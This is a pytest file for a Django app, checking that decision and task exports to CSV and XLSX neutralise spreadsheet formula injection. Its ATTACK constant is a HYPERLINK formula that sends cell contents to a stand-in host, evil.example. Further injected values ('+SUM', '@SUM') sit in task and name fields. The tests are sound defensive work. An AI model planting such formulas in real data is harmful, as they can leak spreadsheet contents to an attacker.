"""A decision or task text that looks like a formula reaches the spreadsheet as text."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

ATTACK = '=HYPERLINK("https://evil.example/?d="&A2;"Details")'


@pytest.fixture
def formula_decision(seed_meeting):
    decision = seed_meeting.decisions.get(sequence=2)
    decision.text = ATTACK
    decision.save()
    return decision


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_the_decision_csv_escapes_a_formula(client_as, formula_decision):
    response = client_as("member").get(reverse("decisions:decisions"), {"format": "csv"})
    row = next(r for r in csv_rows(response) if r[0] == formula_decision.register_number)
    assert row[5] == "'" + ATTACK
    assert row[2] == "15.09.2022"


def test_the_decision_xlsx_holds_the_formula_as_text(client_as, formula_decision):
    response = client_as("member").get(reverse("decisions:decisions"), {"format": "xlsx"})
    sheets = zipfile.ZipFile(io.BytesIO(response.content))
    assert "<f>" not in sheets.read("xl/worksheets/sheet1.xml").decode()
    rows = load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2)
    row = next(r for r in rows if r[0].value == formula_decision.register_number)
    assert row[5].value == ATTACK and row[5].data_type == "s"
    assert row[2].value.year == 2022  # dates stay dates


def test_the_task_csv_escapes_a_formula_in_text_and_owner(client_as, task_of, people):
    people["member"].given_name = "@SUM(1+1)"
    people["member"].save()
    task_of("+SUM(A1:A9)", owner_person=people["member"])
    response = client_as("secretariat").get(reverse("decisions:tasks"), {"format": "csv"})
    row = next(r for r in csv_rows(response) if r[2].endswith("SUM(A1:A9)"))
    assert row[2] == "'+SUM(A1:A9)"
    assert row[3].startswith("'@SUM(1+1)")
    assert row[0].isdigit()  # the number stays a number
